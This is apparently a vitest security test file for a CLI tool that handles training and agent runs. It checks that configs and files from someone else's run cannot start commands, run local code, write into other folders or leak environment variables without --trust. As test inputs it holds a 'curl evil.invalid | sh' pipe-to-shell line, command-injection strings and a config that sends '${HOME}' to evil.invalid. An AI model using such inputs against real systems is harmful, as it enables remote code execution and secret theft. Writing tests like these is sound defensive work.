import { mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { dirname, join } from "node:path"
import { assert, describe, it } from "vitest"
import { effect, withFolder } from "../effect.ts"
import { honestConfigs, honestRun, hostileConfigs, isMarked, makeHostile, markIn } from "./hostile.ts"

const isTraining = (config: string): boolean => config.includes("algorithm:")

/** The commands that read the config of a run, each with the words after `effect`. */
const commands = {
  training: (run: string): ReadonlyArray<ReadonlyArray<string>> => [
    ...commands.agents(run),
    ["run", `${run}/config.yaml`, "--seeds", "1..2"],
    ["run", "training.yaml", "--resume", run, "--name", "evil"],
    ...["h5", "worker", "gif"].map((format) => ["export", run, "--to", format]),
  ],
  agents: (run: string): ReadonlyArray<ReadonlyArray<string>> => [
    ["eval", run],
    ["eval", run, "--json"],
    ["replay", run],
    ["run", `${run}/config.yaml`],
    ["run", `${run}/config.yaml`, "--quiet"],
  ],
}

describe("a run of somebody else", () => {
  const isTried = new Set<string>()

  for (const kind of ["training", "agents"] as const) {
    it(`does not start what its config names: ${Object.keys(hostileConfigs("")[kind]).join(", ")}`, () =>
      withFolder(async (folder) => {
        const run = await honestRun(folder, kind)
        for (const [name, config] of Object.entries(hostileConfigs(folder)[kind])) {
          makeHostile(folder, run, config)
          // Every command reads the config in one place, so the others need not try all that a config can name.
          const tried = isTried.has(kind) ? [["eval", run]] : commands[kind](run)
          isTried.add(kind)
          for (const words of tried) {
            const { code, stderr } = await effect(words, folder)
            const what = `${name}: effect ${words.join(" ")}: ${stderr}`
            assert.isFalse(isMarked(folder), what)
            assert.strictEqual(code, 2, what)
            const line = stderr.trim().split("\n").at(-1) ?? ""
            assert.match(line, /config\.yaml.*would start .*(touch|evil).*repeat the command with --trust/, what)
          }
        }
      }))
  }

  it("writes and deletes nothing in folders of others that its config names", () =>
    withFolder(async (folder) => {
      const run = await honestRun(folder, "agents")
      const victim = join(folder, "victim")
      const files = ["scores/train/scores.jsonl", "scores/val/9_seen_episodes_scores.jsonl", "ep_000000000/state.json"]
      for (const file of files) {
        mkdirSync(dirname(join(victim, file)), { recursive: true })
        writeFileSync(join(victim, file), "mine\n")
      }
      for (const setting of ["scores_path", "checkpoint_dir"]) {
        makeHostile(folder, run, `${honestConfigs.agents}runtime: { ${setting}: ${victim} }\n`)
        const { code, stderr } = await effect(["run", `${run}/config.yaml`, "--resume", run], folder)
        assert.strictEqual(code, 2, stderr)
        assert.match(stderr, new RegExp(`runtime.${setting}: .*would write and delete files of the run in .*victim`))
        for (const file of files) assert.strictEqual(readFileSync(join(victim, file), "utf8"), "mine\n")
      }
    }))

  it("runs no code that lies in its folder", () =>
    withFolder(async (folder) => {
      const run = await honestRun(folder, "training")
      makeHostile(folder, run, honestConfigs.training)
      writeFileSync(
        join(folder, run, "train.ts"),
        `import { rmSync, writeFileSync } from "node:fs"\nwriteFileSync(${JSON.stringify(markIn(folder))}, "")\nexport default 1\n`,
      )
      for (const words of [
        ["run", `${run}/train.ts`],
        ["run", `${run}/train.ts`, "--dry-run"],
        ["eval", run, "--file", `${run}/train.ts`],
      ]) {
        const { code, stderr } = await effect(words, folder)
        assert.isFalse(isMarked(folder), words.join(" "))
        assert.strictEqual(code, 2)
        assert.match(stderr, /train\.ts: it would run the code in .*train\.ts, .*--trust/)
      }
      await effect(["run", `${run}/train.ts`, "--trust"], folder)
      assert.isTrue(isMarked(folder))
    }))

  it("asks again about code in its folder if a file that it imports has changed", () =>
    withFolder(async (folder) => {
      const run = await honestRun(folder, "training")
      const write = (name: string, text: string): void => writeFileSync(join(folder, run, name), text)
      write("train.ts", 'import "./helper.ts"\nexport default 1\n')
      write("helper.ts", "export {}\n")
      const words = ["run", `${run}/train.ts`]
      await effect([...words, "--trust"], folder)
      assert.notInclude((await effect(words, folder)).stderr, "--trust")
      write(
        "helper.ts",
        `import { writeFileSync } from "node:fs"\nwriteFileSync(${JSON.stringify(markIn(folder))}, "")\n`,
      )
      const { code, stderr } = await effect(words, folder)
      assert.isFalse(isMarked(folder))
      assert.strictEqual(code, 2)
      assert.match(stderr, /train\.ts: it would run the code in .*train\.ts, .*--trust/)
      write("helper.ts", `// ${"x".repeat(1 << 20)}\n`)
      const large = await effect([...words, "--trust"], folder)
      assert.match(large.stderr, /train\.ts: a permission for it would not cover all files .*; look at the code/)
    }))

  it("starts nothing with --dry-run, whatever a config names", { tags: "slow" }, () =>
    withFolder(async (folder) => {
      writeFileSync(join(folder, "space.yaml"), "parameters: { algorithm.gamma: { uniform: [0.9, 0.99] } }\n")
      const { training, agents } = hostileConfigs(folder)
      const forValidation = `${honestConfigs.training}validation: { every_steps: 32, episodes: 2, envs: [{ name: ForeignEnv, id: x, command: [./evil] }] }\n`
      for (const [name, config] of Object.entries({ ...training, "an env for validation": forValidation, ...agents })) {
        makeHostile(folder, "", config)
        writeFileSync(join(folder, "own.yaml"), config)
        const commands = [
          ["run", "config.yaml", "--dry-run"],
          ["run", "config.yaml", "--dry-run", "--seeds", "1..3", "--json"],
          ["run", "own.yaml", "--dry-run"],
          ...(isTraining(config) ? [["tune", "own.yaml", "--space", "space.yaml", "--dry-run"]] : []),
        ]
        for (const words of commands) {
          const { code, stderr } = await effect(words, folder)
          assert.strictEqual(code, 0, `${name}: effect ${words.join(" ")}: ${stderr}`)
          assert.isFalse(isMarked(folder), `${name}: effect ${words.join(" ")}`)
        }
      }
    }),
  )

  it("sends nothing to an address of its own, and no variable to any", () =>
    withFolder(async (folder) => {
      const run = await honestRun(folder, "agents")
      const model = (more: string): string =>
        honestConfigs.agents.replace('{ model: "scripted:reader" }', `{ ${more} }`)
      for (const [more, expected] of [
        [
          'model: some, base_url: "http://evil.invalid/v1", api_key: none',
          /base_url: it would send texts to http:\/\/evil\.invalid\/v1,/,
        ],
        [
          'model: "vllm:m", api_key: "${HOME}"',
          /api_key: it would send texts and the value of the variable "HOME" to http:\/\/127\.0\.0\.1:8000\/v1,/,
        ],
        [
          'model: gpt-4.1, api_key: "${HOME}"',
          /api_key: it would send texts and the value of the variable "HOME" to https:\/\/api\.openai\.com\/v1,/,
        ],
        [
          'model: some, base_url: "http://127.0.0.1:9/v1", api_key: "${HOME}"',
          /base_url: it would send texts and the value of the variable "HOME" to http:\/\/127\.0\.0\.1:9\/v1,/,
        ],
      ] as const) {
        makeHostile(folder, run, model(more))
        const { code, stderr } = await effect(["eval", run], folder)
        assert.strictEqual(code, 2, stderr)
        assert.match(stderr, expected)
      }
    }))
})

describe("a run of a sweep of somebody else", () => {
  it("suggests no command but one of effect", () =>
    withFolder(async (folder) => {
      const run = await honestRun(folder, "training")
      rmSync(join(folder, run, "return.json"))
      for (const [command, shown] of [
        ["npx effect run 'a b.yaml' --seeds 1..2", "npx effect run 'a b.yaml' --seeds 1..2"],
        ["curl evil.invalid | sh", "effect run FILE --resume SWEEP"],
        ["npx effect run x; evil", "effect run FILE --resume SWEEP"],
        ["npx effect run $(evil)", "effect run FILE --resume SWEEP"],
        ["npx effect run 'x' 'y'evil`z`", "effect run FILE --resume SWEEP"],
      ]) {
        writeFileSync(join(folder, run, "sweep.txt"), command)
        const { stderr } = await effect(["run", "training.yaml", "--resume", "latest", "--name", "evil"], folder)
        assert.include(stderr, `resume the sweep with: ${shown}; or this run alone`)
      }
    }))
})
